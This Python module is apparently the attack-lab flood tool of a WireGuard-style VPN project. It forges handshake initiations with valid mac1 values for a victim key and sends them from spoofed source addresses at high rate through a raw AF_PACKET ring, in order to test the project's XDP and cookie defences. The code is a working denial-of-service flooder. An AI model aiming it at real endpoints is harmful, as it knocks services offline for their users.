"""Hostile traffic for the attack lab: forged handshake messages and a fast raw sender.

Everything here runs in an attacker's network namespace on the underlay
segment (see tests/test_attack.py) and only sends to lab addresses given by
the caller.

* `initiations(victim_public, n)`: well-formed 148 B handshake initiations with
  random contents and a *valid* mac1 for the victim. mac1 is keyed by the
  victim's public key only (whitepaper 5.4.4), so anyone who knows that key
  passes XDP's size check and the daemon's mac1 check and reaches the
  under-load / cookie logic. mac1 does not cover the IP header, so one message
  is valid from any (spoofed) source.
* `udp_frame(...)`: an Ethernet + IPv4 + UDP frame with correct checksums
  (`ipv4_udp_packet(...)`: the same without the Ethernet header).
* `TxRing`: an AF_PACKET socket with a PACKET_TX_RING and PACKET_QDISC_BYPASS.
  Frames are written into the ring once; each round marks every slot
  "send request" with one numpy store and kicks the kernel with one send(), so
  the Python cost per packet is near zero and the rate is what the kernel and
  the veth/bridge path can carry. On this 2-vCPU VM that is far above what a
  `sendto()` loop reaches (see docs/reliability.md).

`python -m wgx.lab.flood` floods initiations from many spoofed sources for a
bounded time and prints one JSON line (machine output, for tests and the doc).
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import ipaddress
import json
import mmap
import os
import socket
import struct
import time
from collections.abc import Sequence

import numpy as np

from wgx.dataplane.offload import internet_checksum
from wgx.protocol.cookie import CookieGenerator
from wgx.protocol.messages import Initiation

SOL_PACKET = 263
PACKET_VERSION = 10
PACKET_TX_RING = 13
PACKET_LOSS = 14
PACKET_QDISC_BYPASS = 20
TPACKET_V2 = 1
TP_STATUS_AVAILABLE = 0
TP_STATUS_SEND_REQUEST = 1
TP_STATUS_WRONG_FORMAT = 4
_TPACKET2_HDR = struct.Struct("=IIIHHIIHH4x")  # status, len, snaplen, mac, net, sec, nsec, vlan
# TX data starts at TPACKET2_HDRLEN - sizeof(struct sockaddr_ll) = 52 - 20.
_TX_DATA_OFFSET = 32
ETH_P_IP = 0x0800
MAX_SECONDS = 120.0


def initiations(victim_public: bytes, n: int, seed: int = 0) -> list[bytes]:
    """`n` distinct 148 B initiations with random fields, valid mac1 and zero mac2."""
    rnd = np.random.default_rng(seed)
    gen = CookieGenerator(victim_public)
    out = []
    for _ in range(n):
        raw = rnd.bytes(4 + 32 + 48 + 28)
        msg = Initiation(int.from_bytes(raw[:4], "little"), raw[4:36], raw[36:84], raw[84:112],
                         bytes(16), bytes(16)).pack()
        out.append(gen.add_macs(msg, 0.0))
    return out


def bad_mac1(msg: bytes) -> bytes:
    """`msg` (a handshake message) with one bit of its mac1 flipped."""
    off = len(msg) - 32
    return msg[:off] + bytes([msg[off] ^ 0x01]) + msg[off + 1:]


def mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def udp_frame(src_mac: bytes, dst_mac: bytes, src: str, sport: int, dst: str, dport: int,
              payload: bytes, ttl: int = 64) -> bytes:
    """Ethernet + IPv4 (no options, DF) + UDP frame carrying `payload`, checksums set."""
    return (dst_mac + src_mac + struct.pack("!H", ETH_P_IP)
            + ipv4_udp_packet(src, sport, dst, dport, payload, ttl))


def ipv4_udp_packet(src: str, sport: int, dst: str, dport: int, payload: bytes,
                    ttl: int = 64) -> bytes:
    """IPv4 (no options, DF) + UDP packet carrying `payload`, both checksums set."""
    s, d = ipaddress.IPv4Address(src).packed, ipaddress.IPv4Address(dst).packed
    ulen = 8 + len(payload)
    pseudo = s + d + struct.pack("!BBH", 0, 17, ulen)
    udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    ucsum = internet_checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", ucsum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, ttl, 17, 0, s, d)
    return ip[:10] + struct.pack("!H", internet_checksum(ip)) + ip[12:] + udp


def junk_payloads(n: int = 512, seed: int = 0) -> list[bytes]:
    """`n` junk datagrams for a WireGuard port: initiation-sized noise (bad MACs),
    transport-looking messages with random receiver indices and sizes, and pure noise
    of 1..1400 bytes. XDP drops all of them (size, index or type)."""
    rnd = np.random.default_rng(seed)
    out = []
    for i in range(n):
        k = i % 4
        if k == 0:
            out.append(b"\x01\x00\x00\x00" + rnd.bytes(144))
        elif k == 1:
            out.append(b"\x04\x00\x00\x00" + rnd.bytes(int(rnd.integers(28, 1401))))
        else:
            out.append(rnd.bytes(int(rnd.integers(1, 1401))))
    return out


def next_hop(dst: str) -> tuple[str, str, bytes, bytes]:
    """(interface, source address, own MAC, next hop MAC) of the route to `dst` here.

    One datagram to the discard port makes the kernel resolve the neighbour first.
    """
    from pyroute2 import IPRoute

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((dst, 9))
        src = s.getsockname()[0]
        with contextlib.suppress(OSError):
            s.send(b"")
    with IPRoute() as ipr:
        route = ipr.route("get", dst=dst)[0]
        gw = route.get_attr("RTA_GATEWAY") or dst
        ifindex = route.get_attr("RTA_OIF")
        ifname = ipr.get_links(ifindex)[0].get_attr("IFLA_IFNAME")
        deadline = time.monotonic() + 3.0
        while True:
            neigh = [n.get_attr("NDA_LLADDR") for n in ipr.get_neighbours(dst=gw, ifindex=ifindex)
                     if n.get_attr("NDA_LLADDR")]
            if neigh and neigh[0] != "00:00:00:00:00:00":
                break
            if time.monotonic() > deadline:
                raise OSError(f"no neighbour entry for {gw} on {ifname}")
            time.sleep(0.05)
    return ifname, src, link_mac(ifname), mac_bytes(neigh[0])


def spoofed_sources(network: str, count: int) -> list[str]:
    """The first `count` host addresses of `network` (e.g. 198.19.0.0/16)."""
    hosts = ipaddress.IPv4Network(network).hosts()
    return [str(next(hosts)) for _ in range(count)]


def link_mac(ifname: str) -> bytes:
    with open(f"/sys/class/net/{ifname}/address") as f:
        return mac_bytes(f.read().strip())


class TxRing:
    """AF_PACKET TX ring on `ifname`, pre-filled with `frames` (cycled to fill the ring)."""

    def __init__(self, ifname: str, frames: Sequence[bytes], slots: int = 4096,
                 frame_size: int = 2048, qdisc_bypass: bool = True) -> None:
        if not frames:
            raise ValueError("no frames")
        if max(map(len, frames)) > frame_size - _TX_DATA_OFFSET:
            raise ValueError("frame larger than a ring slot")
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        try:
            s = self.sock
            s.setsockopt(SOL_PACKET, PACKET_VERSION, TPACKET_V2)
            if qdisc_bypass:
                s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
            s.setsockopt(SOL_PACKET, PACKET_LOSS, 1)  # skip bad frames instead of stalling
            block = 1 << 20
            per_block = block // frame_size
            slots = (slots + per_block - 1) // per_block * per_block
            s.setsockopt(SOL_PACKET, PACKET_TX_RING,
                         struct.pack("IIII", block, slots // per_block, frame_size, slots))
            s.bind((ifname, 0))
            self.map = mmap.mmap(s.fileno(), slots * frame_size, mmap.MAP_SHARED,
                                 mmap.PROT_READ | mmap.PROT_WRITE)
        except BaseException:
            self.sock.close()
            raise
        self.slots, self.frame_size = slots, frame_size
        for i in range(slots):
            data = frames[i % len(frames)]
            base = i * frame_size
            self.map[base + _TX_DATA_OFFSET: base + _TX_DATA_OFFSET + len(data)] = data
            _TPACKET2_HDR.pack_into(self.map, base, TP_STATUS_AVAILABLE, len(data), len(data),
                                    0, 0, 0, 0, 0, 0)
        words = np.frombuffer(self.map, dtype=np.uint32)
        self._status = words[:: frame_size // 4]  # tp_status of every slot, one view

    def round(self, count: int | None = None) -> int:
        """Send the first `count` slots (all by default) once; returns frames the kernel took."""
        n = self.slots if count is None else min(count, self.slots)
        st = self._status[:n]
        st[:] = TP_STATUS_SEND_REQUEST
        try:
            self.sock.send(b"")  # blocking: returns once the whole ring went out
        except BlockingIOError:
            pass
        except OSError as e:  # ENOBUFS under pressure: whatever was taken is counted below
            if e.errno != 105:
                raise
        pending = int(np.count_nonzero(st == TP_STATUS_SEND_REQUEST))
        bad = int(np.count_nonzero(st == TP_STATUS_WRONG_FORMAT))
        st[:] = TP_STATUS_AVAILABLE  # frames not taken are simply not counted
        return n - pending - bad

    def run(self, seconds: float, pps: float | None = None) -> dict[str, float]:
        """Send rounds for `seconds` (at most MAX_SECONDS), paced to `pps` if given."""
        seconds = min(seconds, MAX_SECONDS)
        t0 = time.monotonic()
        sent = rounds = 0
        while True:
            now = time.monotonic()
            if now - t0 >= seconds:
                break
            if pps:
                due = int((now - t0) * pps) - sent
                if due <= 0:
                    time.sleep(0.001)
                    continue
                sent += self.round(min(due, self.slots))
            else:
                sent += self.round()
            rounds += 1
        elapsed = time.monotonic() - t0
        return {"sent": sent, "seconds": elapsed, "pps": sent / elapsed if elapsed else 0.0,
                "rounds": rounds}

    def close(self) -> None:
        self._status = np.zeros(0, dtype=np.uint32)  # drop the view: mmap refuses to close under it
        self.map.close()
        self.sock.close()

    def __enter__(self) -> TxRing:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def sendto_loop(frames: Sequence[bytes], ifname: str, seconds: float) -> dict[str, float]:
    """Baseline: one AF_PACKET send() per frame from Python (for comparison only)."""
    seconds = min(seconds, MAX_SECONDS)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as s:
        s.bind((ifname, 0))
        t0 = time.monotonic()
        sent = 0
        n = len(frames)
        while time.monotonic() - t0 < seconds:
            for i in range(256):
                try:
                    s.send(frames[(sent + i) % n])
                except OSError:
                    continue
            sent += 256
        elapsed = time.monotonic() - t0
    return {"sent": sent, "seconds": elapsed, "pps": sent / elapsed}


def build_flood_frames(victim_public: bytes, ifname: str, dst_mac: bytes, dst: str, dport: int,
                       sources: Sequence[str], messages: int = 64) -> list[bytes]:
    """One initiation frame per spoofed source (messages cycled, source ports varied)."""
    msgs = initiations(victim_public, messages)
    src_mac = link_mac(ifname)
    return [udp_frame(src_mac, dst_mac, src, 1024 + i % 60000, dst, dport, msgs[i % len(msgs)])
            for i, src in enumerate(sources)]


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m wgx.lab.flood",
                                 description="Flood a WireGuard port (lab only): valid-mac1 "
                                             "initiations from spoofed sources, or --junk.")
    ap.add_argument("--dst", required=True, help="victim IPv4 address")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--junk", action="store_true",
                    help="junk datagrams from this host's own address, sent towards the "
                         "route to --dst (interface and MACs found here)")
    ap.add_argument("--iface", help="initiations: the interface to send on")
    ap.add_argument("--dst-mac", help="initiations: the victim's (or next hop's) MAC")
    ap.add_argument("--public-key", help="initiations: victim public key (base64)")
    ap.add_argument("--sources", default="198.19.0.0/16")
    ap.add_argument("--count", type=int, default=1024, help="spoofed source addresses")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--pps", type=float, default=0.0, help="0: as fast as possible")
    ap.add_argument("--mode", choices=("ring", "sendto"), default="ring")
    args = ap.parse_args(argv)
    if args.junk:
        iface, src, own_mac, hop_mac = next_hop(args.dst)
        frames = [udp_frame(own_mac, hop_mac, src, 40000 + i % 1000, args.dst, args.port, p)
                  for i, p in enumerate(junk_payloads())]
    else:
        if not (args.iface and args.dst_mac and args.public_key):
            ap.error("initiations need --iface, --dst-mac and --public-key")
        iface = args.iface
        frames = build_flood_frames(base64.b64decode(args.public_key), iface,
                                    mac_bytes(args.dst_mac), args.dst, args.port,
                                    spoofed_sources(args.sources, args.count))
    if args.mode == "sendto":
        res = sendto_loop(frames, iface, args.seconds)
    else:
        slots = max(len(frames), 4096)
        with TxRing(iface, frames, slots=slots) as ring:
            res = ring.run(args.seconds, args.pps or None)
    res.update({"sources": 1 if args.junk else args.count, "mode": args.mode,
                "pid": os.getpid()})
    print(json.dumps(res), flush=True)
    return 0


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
